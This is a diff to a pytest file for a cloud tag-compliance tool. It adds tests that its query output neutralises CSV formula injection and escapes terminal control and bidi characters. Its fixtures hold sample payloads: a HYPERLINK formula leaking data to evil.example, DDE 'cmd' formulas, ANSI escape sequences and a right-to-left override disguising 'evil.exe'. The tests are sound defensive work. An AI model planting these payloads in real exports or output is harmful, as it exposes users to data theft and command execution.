@@ -20,7 +20,17 @@ from tag_compliance.cli import main
 from tag_compliance.config import DEFAULT_POLICY
 from tag_compliance.scoring import score_snapshot
 from tag_compliance.warehouse import VIEW_COLUMNS, publish_warehouse
-from tests.sql_fixtures import ACCOUNT_1, RESOURCES, SNAPSHOT, fixture_policy, write_snapshot
+from tests.sql_fixtures import (
+    ACCOUNT_1,
+    CE_EC2,
+    RESOURCES,
+    SNAPSHOT,
+    fixture_policy,
+    resource,
+    service_cost,
+    write_costs,
+    write_snapshot,
+)
 
 
 @pytest.fixture(scope="module")
@@ -387,3 +397,127 @@ def test_the_console_script_refuses_without_a_traceback(locked: LockedSetup) -> 
     assert result.stderr.startswith("query refused: COPY statements are not allowed")
     assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
     assert not target.exists()
+
+
+# --- output hygiene (issue 11, defect 8) ----------------------------------------------------------
+
+# Text cells a spreadsheet would run as formulas (OWASP CSV injection), and harmless ones.
+FORMULAS = {
+    "a-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "b-plus": "+1+cmd|' /C calc'!A0",
+    "c-minus": "-2+3+cmd|' /C calc'!A0",
+    "d-at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "e-tab": "\t=1+1",
+    "f-cr": "\r=1+1",
+}
+HARMLESS = {"g-plain": "CC-1234", "h-inner": "a=b+c-d@e", "i-space": " =not at the start"}
+# Text a terminal would act on (ESC, C1 CSI, DEL, bell, newline) or show reordered (bidi controls).
+CONTROLS = {
+    "j-esc": "\x1b[31mred\x1b[0m\x1b]0;pwned\x07",
+    "k-c1": "x\x9b31my\x85z",
+    "l-del": "a\x7fb\x00c",
+    "m-newline": "two\nlines\r",
+    "n-rlo": "\u202eevil.exe",
+    "o-isolates": "\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202c\u202d",
+    "p-cr-inside": "x\r=1+1",  # a bare CR would end the row: the next "cell" would start with =
+}
+ESCAPED = {
+    "j-esc": r"\x1b[31mred\x1b[0m\x1b]0;pwned\x07",
+    "k-c1": r"x\x9b31my\x85z",
+    "l-del": r"a\x7fb\x00c",
+    "m-newline": r"two\nlines\r",
+    "n-rlo": r"\u202eevil.exe",
+    "o-isolates": r"\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202c\u202d",
+    "p-cr-inside": r"x\r=1+1",
+}
+HOSTILE_TAGS = {**FORMULAS, **HARMLESS, **CONTROLS}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A warehouse whose one resource carries every hostile tag, and a cost credit of -12.5."""
+    root = tmp_path_factory.mktemp("hostile")
+    write_snapshot(
+        root / "lake", [resource(ACCOUNT_1, "us-east-1", "ec2:instance", "i-hostile", HOSTILE_TAGS)]
+    )
+    write_costs(root / "lake", service_cost(ACCOUNT_1, CE_EC2, "-12.5", "-12.5"))
+    path = root / "warehouse.duckdb"
+    publish_warehouse(root / "lake", path)
+    return path
+
+
+TAGS_SQL = (
+    "SELECT entry.key AS k, entry.value AS v FROM (SELECT unnest(map_entries(tags)) AS entry FROM resources) "
+    "ORDER BY k"
+)
+
+
+def csv_rows(capsys: pytest.CaptureFixture[str]) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+
+
+def test_query_csv_neutralises_formula_cells(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run_query(hostile, TAGS_SQL, "--format", "csv") == 0
+    out = capsys.readouterr().out
+    assert 'p-cr-inside,"x\r=1+1"\n' in out  # quoted: one cell, one row
+    rows = dict(list(csv.reader(io.StringIO(out, newline="")))[1:])
+    assert len(rows) == len(HOSTILE_TAGS)
+    assert {key: rows[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
+    assert {key: rows[key] for key in HARMLESS} == HARMLESS
+    assert {key: rows[key] for key in CONTROLS} == CONTROLS  # CSV keeps exact values otherwise
+
+
+def test_query_csv_keeps_numbers_numbers(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    sql = (
+        "SELECT amount, -3 AS i, CAST(-1.5 AS DOUBLE) AS f, '-3' AS t, '=1' AS \"=header\" FROM costs "
+        "WHERE metric = 'AmortizedCost'"
+    )
+    assert run_query(hostile, sql, "--format", "csv") == 0
+    assert csv_rows(capsys) == [
+        ["amount", "i", "f", "t", "'=header"],
+        ["-12.5000000000", "-3", "-1.5", "'-3", "'=1"],  # a DECIMAL credit stays a number; text does not
+    ]
+
+
+def test_query_raw_csv_writes_exact_values(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run_query(hostile, TAGS_SQL, "--format", "csv", "--raw-csv") == 0
+    assert dict(csv_rows(capsys)[1:]) == HOSTILE_TAGS
+
+
+def test_query_help_documents_the_formula_guard(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as exit_:
+        main(["query", "--help"])
+    assert exit_.value.code == 0
+    text = " ".join(capsys.readouterr().out.split())
+    assert "--raw-csv" in text
+    assert "= + - @" in text and "formula" in text
+
+
+def test_query_table_escapes_control_characters(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run_query(hostile, TAGS_SQL) == 0
+    out = capsys.readouterr().out
+    for text in ESCAPED.values():
+        assert text in out
+    raw = {chr(code) for code in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]}
+    raw |= {chr(code) for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]}
+    assert sorted(raw & set(out)) == []
+    assert FORMULAS["a-hyperlink"] in out  # the table is not a spreadsheet: no quote prefix
+
+
+def test_query_table_escapes_control_characters_in_headers_and_nested_values(
+    hostile: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sql = "SELECT tags AS \"col\x1b[2J\", [tags['n-rlo']] AS l FROM resources"
+    assert run_query(hostile, sql) == 0
+    out = capsys.readouterr().out
+    assert r"col\x1b[2J" in out and r"\u202eevil.exe" in out
+    assert "\x1b" not in out and "\u202e" not in out
+
+
+def test_query_json_keeps_exact_values_and_escapes_control_characters(
+    hostile: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run_query(hostile, TAGS_SQL, "--format", "json") == 0
+    out = capsys.readouterr().out
+    assert {row["k"]: row["v"] for row in json.loads(out)} == HOSTILE_TAGS
+    assert "\x9b" not in out and "\x7f" not in out and "\u202e" not in out and "\u2066" not in out
